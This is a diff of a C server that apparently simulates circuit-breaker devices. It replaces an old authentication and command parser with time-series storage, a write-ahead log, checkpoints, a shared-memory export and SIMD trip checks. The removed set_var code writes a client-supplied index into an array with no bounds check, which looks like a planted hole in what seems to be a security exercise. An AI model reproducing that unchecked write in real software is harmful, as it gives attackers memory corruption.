-                fclose(f);
-                return(privlvl);
-            }
-            else {
-                fclose(f);
-                return(AUTHENTICATE_BAD_PW);
+    if (!b && !(b = ser->open = calloc(1, sizeof *b)))
+        return;
+
+    if (!b->count) {
+        memset(b, 0, sizeof *b);
+        b->magic = STORE_MAGIC;
+        b->device = dev->id;
+        b->var = x;
+        b->t_first = b->t_min = b->t_max = t;
+        b->first = b->min = b->max = value;
+        ser->prev_delta = 0;
+        ser->xor_len = 0;
+    } else {
+        delta = t - ser->prev_t;
+        dod = delta - ser->prev_delta;
+        if (dod == 0) {
+            store_put_bits(b, 0, 1);
+        } else if (dod >= -64 && dod < 64) {
+            store_put_bits(b, 2, 2);
+            store_put_bits(b, dod & 0x7f, 7);
+        } else if (dod >= -256 && dod < 256) {
+            store_put_bits(b, 6, 3);
+            store_put_bits(b, dod & 0x1ff, 9);
+        } else if (dod >= -2048 && dod < 2048) {
+            store_put_bits(b, 14, 4);
+            store_put_bits(b, dod & 0xfff, 12);
+        } else {
+            store_put_bits(b, 15, 4);
+            store_put_bits(b, dod, 64);
+        }
+        if (value == ser->prev_v) {
+            store_put_bits(b, 0, 1);
+        } else {
+            xor = value ^ ser->prev_v;
+            lead = __builtin_clz(xor);
+            trail = __builtin_ctz(xor);
+            if (ser->xor_len && lead >= ser->xor_lead && trail >= 32 - ser->xor_lead - ser->xor_len) {
+                store_put_bits(b, 2, 2);
+            } else {
+                ser->xor_lead = lead;
+                ser->xor_len = 32 - lead - trail;
+                store_put_bits(b, 3, 2);
+                store_put_bits(b, lead, 5);
+                store_put_bits(b, ser->xor_len - 1, 5);
             }
+            store_put_bits(b, xor >> (32 - ser->xor_lead - ser->xor_len), ser->xor_len);
         }
+        ser->prev_delta = delta;
+        if (t < b->t_min)
+            b->t_min = t;
+        if (t > b->t_max)
+            b->t_max = t;
+        if (value < b->min)
+            b->min = value;
+        if (value > b->max)
+            b->max = value;
     }
-    fclose(f);
-    return(AUTHENTICATE_BAD_USER);
+    ++b->count;
+    b->sum += value;
+    ser->prev_t = t;
+    ser->prev_v = value;
 }
 
-int user_authorize(int lvl, int cmd) {
-    if ((cmd == CMD_SET_VARIABLE) && (lvl < 15)) {
-        return 1;
-    } else {
-        return 0;
+static int64_t
+store_sign_extend(uint64_t bits, int n) {
+    return (int64_t)(bits << (64 - n)) >> (64 - n);
+}
+
+/* Adds the samples of block B whose timestamps are between FROM and TO (inclusive) to AGG. */
+static void
+store_block_aggregate(const struct StoreBlock *b, uint64_t from, uint64_t to, struct Aggregate *agg) {
+    struct Aggregate whole;
+    uint64_t t;
+    int64_t delta = 0;
+    uint32_t pos = 0, i;
+    unsigned v;
+    int width, lead = 0, len = 0;
+
+    if (!b->count || b->t_max < from || b->t_min > to)
+        return;
+    if (from <= b->t_min && b->t_max <= to) {
+        whole.count = b->count;
+        whole.sum = b->sum;
+        whole.min = b->min;
+        whole.max = b->max;
+        aggregate_merge(agg, &whole);
+        return;
+    }
+
+    t = b->t_first;
+    v = b->first;
+    for (i=0; i<b->count; ++i) {
+        if (i > 0) {
+            if (!store_get_bits(b, &pos, 1)) {
+                width = 0;
+            } else if (!store_get_bits(b, &pos, 1)) {
+                width = 7;
+            } else if (!store_get_bits(b, &pos, 1)) {
+                width = 9;
+            } else if (!store_get_bits(b, &pos, 1)) {
+                width = 12;
+            } else {
+                width = 64;
+            }
+            if (width)
+                delta += store_sign_extend(store_get_bits(b, &pos, width), width);
+            t += delta;
+            if (store_get_bits(b, &pos, 1)) {
+                if (store_get_bits(b, &pos, 1)) {
+                    lead = store_get_bits(b, &pos, 5);
+                    len = store_get_bits(b, &pos, 5) + 1;
+                }
+                v ^= (uint32_t)store_get_bits(b, &pos, len) << (32 - lead - len);
+            }
+        }
+        if (t >= from && t <= to)
+            aggregate_add(agg, v);
     }
 }
 
+/* Aggregates the stored samples of variable X of device DEV whose timestamps are between FROM and TO (inclusive). */
+#define STORE_HEADER(ser, i) ((const struct StoreBlock *)(store_map + (ser)->blocks[i]))
 
+/* Adds the aggregates of full blocks LO to HI - 1 of a series to AGG. */
+static void
+store_tiers_aggregate(const struct StoreSeries *ser, size_t lo, size_t hi, struct Aggregate *agg) {
+    int k;
+    for (k=0; lo<hi; ++k, lo >>= 1, hi >>= 1) {
+        if (lo & 1)
+            aggregate_merge(agg, &STORE_TIER(ser, k)[lo++]);
+        if (hi & 1)
+            aggregate_merge(agg, &STORE_TIER(ser, k)[--hi]);
+    }
+}
 
+/* Adds the samples of the full blocks in the index SER whose timestamps are between FROM and TO (inclusive) to AGG. */
 static void
-show_variables(void) {
-    int i;
-    fputs("variables:\n", stdout);
-    for (i=0; i<256; ++i) {
-        if (variable_name(i, 0) || vars[i])
-            printf("  %d: %-24s = %u\n", i, variable_name(i, 1), (unsigned)vars[i]);
+store_index_aggregate(const struct StoreSeries *ser, uint64_t from, uint64_t to, struct Aggregate *agg) {
+    size_t lo, hi, l, h, mid;
+
+    /* LO is the first block ending at or after FROM and HI the first block starting after TO. */
+    for (l=0, h=ser->nblocks; l<h; ) {
+        mid = l + (h - l) / 2;
+        if (STORE_HEADER(ser, mid)->t_max < from)
+            l = mid + 1;
+        else
+            h = mid;
+    }
+    lo = l;
+    for (h=ser->nblocks; l<h; ) {
+        mid = l + (h - l) / 2;
+        if (STORE_HEADER(ser, mid)->t_min <= to)
+            l = mid + 1;
+        else
+            h = mid;
+    }
+    hi = l;
+    if (lo < hi) {
+        store_block_aggregate(STORE_HEADER(ser, lo), from, to, agg);
+        if (hi - 1 > lo) {
+            store_tiers_aggregate(ser, lo + 1, hi - 1, agg);
+            store_block_aggregate(STORE_HEADER(ser, hi - 1), from, to, agg);
+        }
+    }
+}
+
+static void
+store_query(const struct Device *dev, int x, uint64_t from, uint64_t to, struct Aggregate *agg) {
+    struct StoreSeries *ser = &store_series[dev->id * VAR_LAST + x];
+    const struct StoreSeries *part;
+
+    memset(agg, 0, sizeof *agg);
+    if ((size_t)store_end > store_map_len) {
+        if (store_map)
+            munmap((void*)store_map, store_map_len);
+        store_map = mmap(NULL, store_end, PROT_READ, MAP_SHARED, store_fd, 0);
+        store_map_len = store_end;
+        if (store_map == MAP_FAILED) {
+            store_map = NULL;
+            store_map_len = 0;
+            perror("history store");
+            return;
+        }
     }
+
+    for (part=ser; part; part=part->older)
+        store_index_aggregate(part, from, to, agg);
+    if (ser->open)
+        store_block_aggregate(ser->open, from, to, agg);
 }
 
+/* Opens or creates the history store and indexes the blocks already in it. */
 static int
-parse_line(char *string, char *words[]) {
-    int retval = 0;
-    char *token;
-    while (retval<MAX_NWORDS && (token = strtok(string, " \t\n\r\f\v"))) {
-        string = NULL;
-        words[retval++] = token;
+store_open(const char *filename) {
+    const struct StoreBlock *b;
+    struct stat sb;
+    off_t offset;
+
+    if (!(store_series = calloc((size_t)ndevices * VAR_LAST, sizeof *store_series)) ||
+        (store_fd = open(filename, O_RDWR | O_CREAT | O_APPEND, 0666)) < 0 ||
+        fstat(store_fd, &sb) < 0)
+        return -1;
+    store_end = sb.st_size / STORE_BLOCK_LEN * STORE_BLOCK_LEN;
+    if (store_end != sb.st_size && ftruncate(store_fd, store_end) < 0)
+        return -1;
+    if (store_end > 0) {
+        if ((store_map = mmap(NULL, store_end, PROT_READ, MAP_SHARED, store_fd, 0)) == MAP_FAILED)
+            return -1;
+        store_map_len = store_end;
+        for (offset=0; offset<store_end; offset+=STORE_BLOCK_LEN) {
+            b = (const struct StoreBlock *)(store_map + offset);
+            if (b->magic == STORE_MAGIC && b->device < ndevices && b->var < VAR_LAST)
+                store_index_block(&store_series[b->device * VAR_LAST + b->var], offset, b);
+        }
     }
-    return retval;
+    return 0;
 }
 
-unsigned int set_var(char *name, char *val) {
-    int x, y;
-    y = atoi(val);
+/* Writes out every partially filled block and closes the store. */
+static void
+store_close(void) {
+    size_t i;
+    if (store_fd < 0 || in_branch)
+        return;
+    for (i=0; i<(size_t)ndevices * VAR_LAST; ++i)
+        store_flush(&store_series[i]);
+    close(store_fd);
+    store_fd = -1;
+}
 
-    if (!strcmp(name, "unused")) { x = VAR_UNUSED; }
-    else if (!strcmp(name, "voltage")) { x = VAR_VOLTAGE; }
-    else if (!strcmp(name, "amperage")) { x = VAR_AMPERAGE; }
-    else if (!strcmp(name, "min_voltage")) { x = VAR_MIN_VOLTAGE; }
-    else if (!strcmp(name, "max_voltage")) { x = VAR_MAX_VOLTAGE; }
-    else if (!strcmp(name, "circuit_breaker")) { x = VAR_CIRCUIT_BREAKER; }
-    else { x = atoi(name); }
+static int
+devices_init(unsigned n) {
+    uint8_t *block;
+    unsigned i, id;
+    size_t nsamples = (size_t)n * VAR_LAST * history_len, row = 0;
+
+    column_len = (n + 63) / 64 * 64;
+    for (i=0; i<256; ++i)
+        row += var_size(i);
+    if (!(devices = calloc(n, sizeof *devices)) || !(trip_mask = calloc(column_len/64, sizeof *trip_mask)) ||
+        posix_memalign((void**)&block, 64, row * column_len))
+        return -1;
+    if (history_len && (!(history_time = malloc(nsamples * sizeof *history_time)) ||
+                        !(history_value = malloc(nsamples * sizeof *history_value)) ||
+                        !(history_count = calloc((size_t)n * VAR_LAST, sizeof *history_count))))
+        return -1;
+    ndevices = n;
+    for (i=0; i<256; ++i) {
+        var_columns[i] = block;
+        block += var_size(i) * column_len;
+        if (var_size(i) == 1) {
+            memset(var_columns[i], var_schema[i].dflt, column_len);
+        } else {
+            for (id=0; id<column_len; ++id)
+                var_store(i, id, var_schema[i].dflt);
+        }
+    }
+    for (i=0; i<n; ++i) {
+        devices[i].id = i;
+        devices[i].dirty_rules = ~(uint64_t)0;          /* nothing has been evaluated yet */
+    }
+    return 0;
+}
 
+/* Write-ahead log.  Every change to the state -- a variable taking a new value, or a breaker trip -- is appended to the log
+ * as a fixed-size record with a sequence number.  Records are collected in memory and written and synced together (group
+ * commit), when WAL_GROUP_RECORDS have accumulated or the oldest has waited wal_group_interval milliseconds, so the cost
+ * of the sync is shared by every change in the group.  Replies are not held back until their changes are synced: a crash
+ * loses at most the last wal_group_interval milliseconds of changes.
+ *
+ * Each checkpoint records the sequence number of the last change it includes, after which the log is emptied.  Recovery
+ * restores the checkpoint and replays the records after that number, stopping at the first record that is torn or out of
+ * sequence. */
+#define WAL_MAGIC 0xb5
+#define WAL_GROUP_RECORDS 4096
+
+enum WalRecordType {
+    WAL_SET                     = 1,                    /* variable VAR of DEVICE became VALUE */
+    WAL_TRIP                    = 2                     /* the breaker of DEVICE tripped (its trip count increased) */
+};
 
-    printf("command: set variable[%u] = %u\n", (unsigned)x, (unsigned)y);
-    vars[x] = y;
+struct WalRecord {
+    uint64_t seq;
+    uint32_t device;
+    uint32_t value;
+    uint8_t type;
+    uint8_t var;
+    uint8_t reserved[5];
+    uint8_t check;                                      /* WAL_MAGIC ^ the other bytes */
+};
 
-    return 0;
+static int wal_fd = -1;
+static uint64_t change_seq;                             /* sequence number of the last change to the state */
+static struct WalRecord wal_group[WAL_GROUP_RECORDS];   /* changes logged but not yet written */
+static unsigned wal_ngroup;
+static uint64_t wal_group_start;                        /* monotonic_now() when the first of them was logged */
+static unsigned wal_group_interval = 10;                /* milliseconds */
+
+static uint8_t
+wal_check(const struct WalRecord *r) {
+    const uint8_t *p = (const uint8_t *)r;
+    uint8_t check = WAL_MAGIC;
+    size_t i;
+    for (i=0; i<offsetof(struct WalRecord, check); ++i)
+        check ^= p[i];
+    return check;
 }
 
-int parse_cmd(char *cmd) {
-    int x = CMD_NOP;
-    if (!strcmp(cmd,"nop")) { x = CMD_NOP; }
-    else if (!strcmp(cmd,"set")) { x = CMD_SET_VARIABLE; }
-    else if (!strcmp(cmd,"exit")) { x = CMD_EXIT; }
-    else { x = atoi(cmd); }
+/* Writes and syncs the changes logged so far. */
+static void
+wal_sync(void) {
+    size_t len = wal_ngroup * sizeof *wal_group;
+    if (!wal_ngroup)
+        return;
+    if (write(wal_fd, wal_group, len) != (ssize_t)len || fdatasync(wal_fd) < 0)
+        perror("write-ahead log");
+    wal_ngroup = 0;
+}
 
-    return x;
+static void
+wal_append(const struct WalRecord *r) {
+    if (wal_ngroup == WAL_GROUP_RECORDS)
+        wal_sync();
+    if (!wal_ngroup)
+        wal_group_start = monotonic_now();
+    wal_group[wal_ngroup++] = *r;
 }
 
-int parse_input(char *input, char *words[], int client_sock) {
-    int cmd, authenticate = -1, authorize = -1, nwords=0, valid_cmd=1;
-    char *auth, *username, *password, *clientmsg;
+/* Syncs the log if the oldest unsynced change has waited long enough. */
+static void
+wal_sync_maybe(void) {
+    if (wal_ngroup && monotonic_now() - wal_group_start >= (uint64_t)wal_group_interval * 1000000)
+        wal_sync();
+}
 
-    nwords = parse_line(input, words);
-    if (nwords < 4) {
-        write(client_sock, ERR_BAD_CMD, strlen(ERR_BAD_CMD));
-        return 1;
+/* Empties the log once a checkpoint includes every change in it. */
+static void
+wal_truncate(void) {
+    if (wal_fd < 0)
+        return;
+    wal_ngroup = 0;
+    if (ftruncate(wal_fd, 0) < 0)
+        perror("write-ahead log");
+}
+
+/* Opens or creates the log and replays the changes after sequence number FROM, which the state already includes. */
+static int
+wal_open(const char *filename, uint64_t from) {
+    struct WalRecord r;
+    struct Device *dev;
+    off_t valid = 0;
+    unsigned long nreplayed = 0;
+
+    if ((wal_fd = open(filename, O_RDWR | O_CREAT | O_APPEND, 0666)) < 0)
+        return -1;
+    change_seq = from;
+    while (read(wal_fd, &r, sizeof r) == sizeof r && r.check == wal_check(&r) && r.device < ndevices &&
+           (r.seq <= from || r.seq == change_seq + 1)) {
+        valid += sizeof r;
+        if (r.seq <= from)
+            continue;
+        dev = &devices[r.device];
+        if (r.type == WAL_SET)
+            var_store(r.var, dev->id, r.value);
+        else if (r.type == WAL_TRIP)
+            ++dev->ntrips;
+        change_seq = r.seq;
+        ++nreplayed;
     }
+    if (ftruncate(wal_fd, valid) < 0)
+        return -1;
+    if (nreplayed)
+        fprintf(stderr, "%s: replayed %lu changes\n", filename, nreplayed);
+    return 0;
+}
 
-    auth = words[0];
-    username = words[1];
-    password = words[2];
+static void
+wal_close(void) {
+    if (wal_fd >= 0)
+        wal_sync();
+}
 
-    if (strcmp(auth,"auth")) {
-        write(client_sock, ERR_AUTHENTICATE_REQ, strlen(ERR_AUTHENTICATE_REQ) );
-        return 1;
+/* Change journal.  Every change to the state gets the next sequence number, change_seq, which continues across restarts when
+ * the state is persistent (-P or -W).  The last journal_len changes are kept in memory, in a ring indexed by sequence number,
+ * for clients that "follow" them: a follower names the first change it wants and is then sent every change from there on,
+ * in order, in batches of up to JOURNAL_BATCH changes.  A follower that reconnects can resume from the change after the
+ * last one it saw, as long as that change is still in the journal. */
+#define JOURNAL_BATCH 256
+
+static struct WalRecord *journal;                       /* journal[SEQ & (journal_len - 1)] is change SEQ */
+static unsigned journal_len = 65536;                    /* a power of two, or 0 for no journal */
+static uint64_t journal_base;                           /* change_seq when the journal was started */
+
+/* Sequence number of the oldest change still in the journal. */
+static uint64_t
+journal_oldest(void) {
+    return change_seq - journal_base < journal_len ? journal_base + 1 : change_seq - journal_len + 1;
+}
+
+/* Numbers a change to the state and passes it to the journal and the write-ahead log. */
+static void
+record_change(const struct Device *dev, int type, int x, uint32_t value) {
+    struct WalRecord r;
+    memset(&r, 0, sizeof r);
+    r.seq = ++change_seq;
+    r.device = dev->id;
+    r.type = type;
+    r.var = x;
+    r.value = value;
+    if (journal_len)
+        journal[r.seq & (journal_len - 1)] = r;
+    if (wal_fd >= 0) {
+        r.check = wal_check(&r);
+        wal_append(&r);
     }
+}
 
-    authenticate = user_authenticate(username, password);
-    if (authenticate < 0) {
-        if (authenticate == AUTHENTICATE_BAD_USER) {
-            clientmsg = ERR_BAD_USER;
-        } else {
-            clientmsg = ERR_BAD_PW;
-        }
-        write(client_sock, clientmsg, strlen(clientmsg));
-        return 1;
+/* Persistent state.  The state file holds two slots, each big enough for a complete checkpoint of every device: a header,
+ * each device's trip count, then the variable columns.  A checkpoint is written over the older slot and synced before the
+ * newer one is touched again, and each slot starts with a checksum of the rest of it, so however a checkpoint is
+ * interrupted at least one slot is intact.  Restarting maps the file and copies the newest intact slot back into the
+ * columns, which takes milliseconds even for many devices.  Changes since the last checkpoint are lost on a crash. */
+#define STATE_MAGIC 0x32534642                          /* "BFS2" */
+
+struct StateHeader {
+    uint64_t checksum;                                  /* of the rest of the slot */
+    uint32_t magic;
+    uint32_t ndevices;
+    uint64_t generation;                                /* number of checkpoints taken; the newer slot has the higher */
+    uint64_t time;                                      /* when the checkpoint was taken, in nanoseconds since the epoch */
+    uint64_t wal_seq;                                   /* sequence number of the last logged change included */
+};
+
+static uint8_t *state_map;                              /* both slots, or null if there is no state file */
+static size_t state_slot_len;
+static uint64_t state_generation;
+static unsigned long state_changes;                     /* incremented by every change to the state */
+static unsigned long state_checkpointed;                /* state_changes as of the last checkpoint */
+static uint64_t state_checkpoint_time;                  /* CLOCK_MONOTONIC time of the last checkpoint, in nanoseconds */
+static unsigned checkpoint_interval = 1000;             /* milliseconds */
+
+/* FNV-1a over 64-bit words.  LEN is a multiple of 8. */
+static uint64_t
+state_checksum(const uint8_t *p, size_t len) {
+    uint64_t h = 0xcbf29ce484222325ULL, w;
+    size_t i;
+    for (i=0; i<len; i+=8) {
+        memcpy(&w, p+i, 8);
+        h = (h ^ w) * 0x100000001b3ULL;
     }
+    return h;
+}
 
-    cmd = parse_cmd(words[3]);
-    if (cmd < 0) {
-        write(client_sock, ERR_BAD_CMD, strlen(ERR_BAD_CMD));
-        return 1;
+static void
+checkpoint(void) {
+    uint8_t *slot = state_map + (++state_generation & 1) * state_slot_len;
+    struct StateHeader *h = (struct StateHeader *)slot;
+    uint64_t *ntrips = (uint64_t *)(h + 1);
+    uint8_t *cols = (uint8_t *)(ntrips + ndevices);
+    unsigned i;
+    size_t len;
+
+    h->magic = STATE_MAGIC;
+    h->ndevices = ndevices;
+    h->generation = state_generation;
+    h->time = sim_now();
+    h->wal_seq = change_seq;
+    for (i=0; i<ndevices; ++i)
+        ntrips[i] = devices[i].ntrips;
+    for (i=0; i<256; ++i, cols += len) {
+        len = var_size(i) * ndevices;
+        memcpy(cols, var_columns[i], len);
     }
+    h->checksum = state_checksum(slot + 8, state_slot_len - 8);
+    if (msync(slot, state_slot_len, MS_SYNC) < 0)
+        perror("checkpoint");
+    else
+        wal_truncate();
+    state_checkpointed = state_changes;
+    state_checkpoint_time = monotonic_now();
+}
 
-    authorize = user_authorize(authenticate, cmd);
-    if (authorize) {
-        write(client_sock, ERR_AUTHORIZE_REQ, strlen(ERR_AUTHORIZE_REQ));
-        return 1;
+/* Takes a checkpoint if the state has changed and the last one is at least checkpoint_interval old. */
+static void
+checkpoint_maybe(void) {
+    if (state_map && state_changes != state_checkpointed &&
+        monotonic_now() - state_checkpoint_time >= (uint64_t)checkpoint_interval * 1000000)
+        checkpoint();
+}
+
+/* Opens or creates the state file and restores the devices from its newest intact checkpoint, if any. */
+static int
+state_open(const char *filename) {
+    const struct StateHeader *h, *newest = NULL;
+    const uint64_t *ntrips;
+    const uint8_t *cols;
+    struct stat sb;
+    size_t page = sysconf(_SC_PAGESIZE), row = 0, len;
+    unsigned i;
+    int fd, slot;
+
+    for (i=0; i<256; ++i)
+        row += var_size(i);
+    state_slot_len = (sizeof *h + (sizeof *ntrips + row) * (size_t)ndevices + page - 1) / page * page;
+    if ((fd = open(filename, O_RDWR | O_CREAT, 0666)) < 0 || fstat(fd, &sb) < 0)
+        return -1;
+    if (sb.st_size == 0 && ftruncate(fd, 2 * state_slot_len) < 0)
+        return -1;
+    if (sb.st_size != 0 && (size_t)sb.st_size != 2 * state_slot_len) {
+        fprintf(stderr, "%s: state file is for a different number of devices or variables\n", filename);
+        errno = EINVAL;
+        return -1;
+    }
+    state_map = mmap(NULL, 2 * state_slot_len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    close(fd);
+    if (state_map == MAP_FAILED) {
+        state_map = NULL;
+        return -1;
     }
 
-    clientmsg = OK_CMD;
-    switch(cmd) {
-        case CMD_NOP:
-            fputs("command: nop\n", stdout);
-            break;
-        case CMD_EXIT:
-            fputs("command: exit\n", stdout);
-            close(client_sock);
-            exit(0);
-        case CMD_SET_VARIABLE: {
-            if (nwords < 6) {
-                clientmsg = ERR_BAD_SET;
-                valid_cmd = 0;
-            } else if (set_var(words[4], words[5])) {
-                clientmsg = ERR_BAD_SET;
-                valid_cmd = 0;
-            }
-            break;
+    for (slot=0; slot<2; ++slot) {
+        h = (const struct StateHeader *)(state_map + slot * state_slot_len);
+        if (h->magic == STATE_MAGIC && h->ndevices != ndevices) {
+            fprintf(stderr, "%s: state file is for a different number of devices or variables\n", filename);
+            errno = EINVAL;
+            return -1;
         }
-        default: {
-            clientmsg = ERR_BAD_CMD;
-            valid_cmd = 0;
+        if (h->magic == STATE_MAGIC &&
+            h->checksum == state_checksum((const uint8_t *)h + 8, state_slot_len - 8) &&
+            (!newest || h->generation > newest->generation))
+            newest = h;
+    }
+    if (newest) {
+        ntrips = (const uint64_t *)(newest + 1);
+        cols = (const uint8_t *)(ntrips + ndevices);
+        for (i=0; i<ndevices; ++i)
+            devices[i].ntrips = ntrips[i];
+        for (i=0; i<256; ++i, cols += len) {
+            len = var_size(i) * ndevices;
+            memcpy(var_columns[i], cols, len);
         }
+        state_generation = newest->generation;
+        change_seq = newest->wal_seq;
     }
-    write(client_sock, clientmsg, strlen(clientmsg));
-
-    return valid_cmd;
+    state_checkpoint_time = monotonic_now();
+    return 0;
+}
 
+/* Milliseconds until the log or the state will need syncing if nothing else happens, or -1 if never; for a server waiting
+ * for input. */
+static int
+persistence_timeout(void) {
+    uint64_t now = monotonic_now(), ms, timeout = (uint64_t)-1;
+    if (wal_ngroup) {
+        ms = (now - wal_group_start) / 1000000;
+        timeout = ms < wal_group_interval ? wal_group_interval - ms : 0;
+    }
+    if (state_map && state_changes != state_checkpointed) {
+        ms = (now - state_checkpoint_time) / 1000000;
+        ms = ms < checkpoint_interval ? checkpoint_interval - ms : 0;
+        if (ms < timeout)
+            timeout = ms;
+    }
+    return timeout == (uint64_t)-1 ? -1 : (int)timeout + 1;
 }
 
+/* Takes a final checkpoint if anything changed since the last one. */
+static void
+state_close(void) {
+    if (state_map && state_changes != state_checkpointed)
+        checkpoint();
+}
 
+/* Shared-memory export.  With -M, the named variables and trip count of every device are mirrored into a POSIX shared
+ * memory object that local programs read with backdoor-shm.h.  A device's record is updated in place by the same
+ * vars_write_begin/vars_write_end sections that publish its variable table, and its seq is the device's seq, so the export
+ * costs the command path a few stores per write. */
+static struct BdShmHeader *shm_map;                     /* the export, or null */
+static const char *shm_name;
 
-int server(int port)
-{
-    int socket_desc , client_sock , c , read_size;
-    struct sockaddr_in server , client;
-    char client_message[MAX_CMD_LEN], *words[MAX_NWORDS];
+#define SHM_RECORD(id) \
+    ((struct BdShmDevice *)((uint8_t *)shm_map + shm_map->devices_offset + (size_t)(id) * shm_map->record_len))
 
-    //Create socket
-    socket_desc = socket(AF_INET , SOCK_STREAM , 0);
-    if (socket_desc == -1)
-    {
-        printf("Could not create socket");
+/* Creates the shared memory object NAME, replacing any left by an earlier server, and fills it with the current state. */
+static int
+shm_export_open(const char *name) {
+    size_t record_len = (sizeof(struct BdShmDevice) + VAR_LAST * sizeof(uint32_t) + 63) & ~(size_t)63;
+    size_t offset = (sizeof(struct BdShmHeader) + VAR_LAST * sizeof(struct BdShmVar) + 63) & ~(size_t)63;
+    size_t size = offset + (size_t)ndevices * record_len;
+    struct BdShmVar *vars;
+    struct BdShmDevice *rec;
+    void *p;
+    unsigned i;
+    int x, fd;
+
+    shm_unlink(name);                                   /* readers of the old object keep it until they unmap it */
+    if ((fd = shm_open(name, O_RDWR | O_CREAT | O_EXCL, 0644)) < 0)
+        return -1;
+    if (ftruncate(fd, size) < 0 || (p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0)) == MAP_FAILED) {
+        close(fd);
+        shm_unlink(name);
+        return -1;
     }
-    puts("Socket created");
-
-    server.sin_family = AF_INET;
-    server.sin_addr.s_addr = INADDR_ANY;
-    server.sin_port = htons(port);
+    close(fd);
+    shm_map = p;
+    shm_map->version = BDSHM_VERSION;
+    shm_map->ndevices = ndevices;
+    shm_map->nvars = VAR_LAST;
+    shm_map->record_len = record_len;
+    shm_map->devices_offset = offset;
+    shm_map->size = size;
+    shm_map->pid = getpid();
+    vars = (struct BdShmVar *)(shm_map + 1);
+    for (x=0; x<VAR_LAST; ++x) {
+        if (var_schema[x].name)
+            snprintf(vars[x].name, sizeof vars[x].name, "%s", var_schema[x].name);
+        vars[x].frac_digits = var_schema[x].frac_digits;
+    }
+    for (i=0; i<ndevices; ++i) {
+        rec = SHM_RECORD(i);
+        rec->seq = devices[i].seq;
+        rec->ntrips = devices[i].ntrips;
+        for (x=0; x<VAR_LAST; ++x)
+            rec->values[x] = var_load(x, i);
+    }
+    __sync_synchronize();
+    shm_map->magic = BDSHM_MAGIC;
+    shm_name = name;
+    return 0;
+}
+
+/* Tells readers the server is gone and removes the object. */
+static void
+shm_export_close(void) {
+    if (!shm_map)
+        return;
+    shm_map->magic = 0;
+    shm_unlink(shm_name);
+    munmap(shm_map, shm_map->size);
+    shm_map = NULL;
+}
+
+static void
+vars_write_begin(struct Device *dev) {
+    if (dev->write_depth++ == 0) {
+        ++dev->seq;
+        if (shm_map)
+            SHM_RECORD(dev->id)->seq = dev->seq;
+        __sync_synchronize();
+    }
+}
+
+static void
+vars_write_end(struct Device *dev) {
+    if (--dev->write_depth == 0) {
+        __sync_synchronize();
+        ++dev->seq;
+        if (shm_map)
+            SHM_RECORD(dev->id)->seq = dev->seq;
+    }
+}
+
+static void
+var_write(struct Device *dev, int x, uint32_t value) {
+    uint64_t now;
+    vars_write_begin(dev);
+    if (DEV_VAR(dev, x) != value) {
+        ++state_changes;
+        record_change(dev, WAL_SET, x, value);
+        dev->dirty_rules |= rule_deps[x];
+        dev->dirty[x/64] |= (uint64_t)1 << (x%64);
+        dev->changed[x/64] |= (uint64_t)1 << (x%64);
+    }
+    var_store(x, dev->id, value);
+    if (shm_map && x < VAR_LAST)
+        SHM_RECORD(dev->id)->values[x] = value;
+    if (x < VAR_LAST && (history_len || (store_fd >= 0 && !in_branch))) {
+        now = sim_now();
+        if (history_len)
+            history_record(dev, x, value, now);
+        if (store_fd >= 0 && !in_branch)
+            store_append(dev, x, value, now);
+    }
+    vars_write_end(dev);
+}
+
+/* Copies a consistent snapshot of a device's variable table into DST and returns the sequence number it corresponds to. */
+static unsigned
+vars_snapshot(const struct Device *dev, uint32_t dst[256]) {
+    unsigned seq;
+    int i;
+    do {
+        while ((seq = dev->seq) & 1)
+            /* writer active */;
+        __sync_synchronize();
+        for (i=0; i<256; ++i)
+            dst[i] = var_load(i, dev->id);
+        __sync_synchronize();
+    } while (seq != dev->seq);
+    return seq;
+}
+
+/******************************************************************
+ * PROTECTED RESOURCES BELOW                                      *
+ ******************************************************************/
+
+int trip_conditions_met(const struct Device *dev) {
+    return (
+        DEV_VAR(dev, VAR_CIRCUIT_BREAKER)!=0 &&
+       (DEV_VAR(dev, VAR_VOLTAGE) < DEV_VAR(dev, VAR_MIN_VOLTAGE) || DEV_VAR(dev, VAR_VOLTAGE) > DEV_VAR(dev, VAR_MAX_VOLTAGE))
+    );
+}
+
+/* Evaluates trip_conditions_met for every device at once over the variable columns and stores the result in trip_mask, one
+ * bit per device.  Compares 32, 16 or 8 voltages per instruction depending on whether the compiler targets AVX-512BW, AVX2
+ * or SSE2 (e.g., -mavx2), with a scalar loop otherwise.  Bits past ndevices come from the columns' padding and must be
+ * ignored. */
+static void
+trip_scan(void) {
+    const uint8_t *cb = var_columns[VAR_CIRCUIT_BREAKER];
+    const uint16_t *v = var_columns[VAR_VOLTAGE], *lo = var_columns[VAR_MIN_VOLTAGE], *hi = var_columns[VAR_MAX_VOLTAGE];
+    size_t i;
+    int h;
+#if defined(__AVX512BW__)
+    __m512i cbv, vv;
+    uint64_t out;
+    for (i=0; i<column_len; i+=64) {
+        out = 0;
+        for (h=0; h<2; ++h) {
+            vv = _mm512_load_si512(v+i+32*h);
+            out |= (uint64_t)(_mm512_cmplt_epu16_mask(vv, _mm512_load_si512(lo+i+32*h)) |
+                              _mm512_cmpgt_epu16_mask(vv, _mm512_load_si512(hi+i+32*h))) << (32*h);
+        }
+        cbv = _mm512_load_si512(cb+i);
+        trip_mask[i/64] = _mm512_test_epi8_mask(cbv, cbv) & out;
+    }
+#elif defined(__AVX2__)
+    __m256i zero = _mm256_setzero_si256(), vv, in_range[2], open;
+    uint64_t half[2];
+    int q;
+    for (i=0; i<column_len; i+=64) {
+        for (h=0; h<2; ++h) {
+            for (q=0; q<2; ++q) {
+                vv = _mm256_load_si256((const __m256i*)(v+i+32*h+16*q));
+                in_range[q] = _mm256_and_si256(
+                    _mm256_cmpeq_epi16(_mm256_max_epu16(vv, _mm256_load_si256((const __m256i*)(lo+i+32*h+16*q))), vv),
+                    _mm256_cmpeq_epi16(_mm256_min_epu16(vv, _mm256_load_si256((const __m256i*)(hi+i+32*h+16*q))), vv));
+            }
+            /* Narrow the 16-bit lanes to bytes in device order; packs works within 128-bit halves. */
+            in_range[0] = _mm256_permute4x64_epi64(_mm256_packs_epi16(in_range[0], in_range[1]), 0xd8);
+            open = _mm256_cmpeq_epi8(_mm256_load_si256((const __m256i*)(cb+i+32*h)), zero);
+            half[h] = (uint32_t)~_mm256_movemask_epi8(_mm256_or_si256(in_range[0], open));
+        }
+        trip_mask[i/64] = half[0] | half[1] << 32;
+    }
+#elif defined(__SSE2__)
+    /* SSE2 has no unsigned 16-bit comparisons, so flip the sign bits and compare signed. */
